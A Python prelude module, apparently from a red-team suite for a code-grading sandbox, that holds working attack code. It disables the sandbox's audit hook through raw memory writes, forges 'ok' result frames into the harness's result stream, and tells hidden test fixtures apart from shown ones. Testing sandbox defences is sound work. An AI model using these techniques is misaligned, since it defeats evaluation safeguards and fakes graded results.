"""Prelude inlined into attacks: raw memory and unhooking, result-stream frames, the request.

Not a submission by itself. NumPy's ``__array_interface__`` turns any address into an
array, so a submission can read and write its own memory without ctypes and without a
single audit event; ``unhook`` uses that to point the audit hook's ``func_code`` at a
no-op's. The sandbox documents the hook as wording only: with it gone, the namespaces,
the read-only jail, the uid and seccomp must still refuse everything.
"""

import contextlib as _contextlib
import gc as _gc
import json as _json
import os as _os
import struct as _struct
import sys as _sys
import types as _types

import numpy as _np


class _Raw:
    def __init__(self, address, count, typestr):
        self.__array_interface__ = {"data": (address, False), "shape": (count,), "typestr": typestr, "version": 3}


def raw(address, count, typestr="<u8"):
    """``count`` items at ``address`` as a writable array (no copy, no audit event)."""
    return _np.asarray(_Raw(address, count, typestr))


_KEEP = []


def unhook():
    """Make every audit hook in this process a no-op; returns how many were found."""

    def noop(event, args, *rest):
        return None

    _KEEP.append(noop)
    found = 0
    for obj in _gc.get_objects():
        if type(obj) is _types.FunctionType and obj.__name__ == "sandbox_audit_hook":
            words = raw(id(obj), 8)
            for index in range(8):
                if words[index] == id(obj.__code__):
                    words[index] = id(noop.__code__)
                    found += 1
                    break
    return found


def frame(tag, payload):
    """One frame of the result stream, as the harness writes it."""
    return tag + _struct.pack(">I", len(payload)) + payload


def array_frame(value):
    """An array frame in the real format: dtype, dimensions, raw float64 data."""
    value = _np.asarray(value, dtype=_np.float64)
    meta = _struct.pack(f">B3sB{value.ndim}Q", 3, b"<f8", value.ndim, *value.shape)
    return frame(b"A", meta + value.tobytes())


def event_frame(**fields):
    """A JSON event frame."""
    return frame(b"J", _json.dumps(fields).encode())


def forge_results(call, last, value, later_value):
    """Write, into every inherited descriptor (the result stream among them), "ok" results
    for calls ``call`` to ``last - 1`` (``value`` for the first, ``later_value`` for the
    others) and "done".

    (No literal values here: the prelude is inlined into attacks that hunt for numbers.)"""
    data = event_frame(event="result", call=call, status="ok", kind="array", type="ndarray", mutated=[])
    data += array_frame(value)
    for later in range(call + 1, last):
        data += event_frame(event="start", call=later)
        data += event_frame(event="result", call=later, status="ok", kind="scalar", type="float", mutated=[])
        data += array_frame(later_value)
    data += event_frame(event="done")
    for fd in range(3, 64):
        with _contextlib.suppress(OSError):
            _os.write(fd, data)


def request_key():
    """The request being served (the id of its arrays list, found up the stack): a run in
    turn serves two, the shown fixtures' and then the hidden ones'."""
    caller = _sys._getframe()
    while caller is not None:
        if "arrays" in caller.f_locals:
            return id(caller.f_locals["arrays"])
        caller = caller.f_back
    return None
